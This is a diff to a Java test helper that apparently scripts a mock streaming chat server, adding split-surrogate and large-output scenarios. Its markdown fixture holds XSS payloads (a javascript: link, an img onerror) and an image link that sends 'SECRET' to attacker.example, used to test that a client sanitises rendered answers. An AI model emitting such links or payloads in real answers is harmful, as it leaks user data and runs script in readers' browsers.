@@ -13,12 +13,16 @@ import java.util.List;
  * the connection open); malformed (1 token, then a chunk that is not JSON); emptycut (no text, then the connection drops);
  * md (markdown: a heading, a table, a code block, a safe link, a javascript: link, an external image, raw HTML);
  * long:N:ms (an N-character markdown answer in word-sized tokens, one every ms); count ("Answer n", n counting
- * every count request, so two answers to the same question differ).
+ * every count request, so two answers to the same question differ); surrogates (an emoji's surrogate pair split
+ * across two chunks, then a lone high and a lone low surrogate: {@link #SURROGATES_SHOWN} is what a browser should
+ * see); big:N (N pieces of 16 KiB, to fill a browser that stops reading).
  */
 final class Script {
     static final String MARKDOWN = "# Heading\n\nSome **bold** text, a [safe link](https://example.org/docs), "
             + "a [bad link](javascript:alert(1)) and an image ![secret](https://attacker.example/p?d=SECRET).\n\n"
             + "| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconsole.log(\"copied <ok>\");\n```\n\n<img src=x onerror=alert(1)>\n";
+    /** What the {@code surrogates} scenario should read as: the pair joined, each lone half U+FFFD. */
+    static final String SURROGATES_SHOWN = "Smile \ud83d\ude00! lone \ufffd low \ufffd end";
     private static final java.util.concurrent.atomic.AtomicInteger COUNT = new java.util.concurrent.atomic.AtomicInteger();
 
     enum Kind { FRAME, END, CUT, HANG }
@@ -113,6 +117,20 @@ final class Script {
             case "count" -> {
                 s.add(frame(f.text("Answer ")));
                 s.add(frame(f.text(Integer.toString(COUNT.incrementAndGet()))));
+                finish(s, f, "stop", true);
+            }
+            case "surrogates" -> {
+                // JSON escapes, as providers send them: each chunk alone is not well-formed UTF-16.
+                for (String piece : List.of("Smile \\ud83d", "\\ude00!", " lone \\ud83d", " low \\ude00", " end")) {
+                    s.add(frame(f.text(piece)));
+                }
+                finish(s, f, "stop", true);
+            }
+            case "big" -> {
+                String piece = "x".repeat(16 * 1024);
+                for (int i = 0; i < (a > 0 ? a : 100); i++) {
+                    s.add(frame(f.text(piece)));
+                }
                 finish(s, f, "stop", true);
             }
             case "nul" -> {
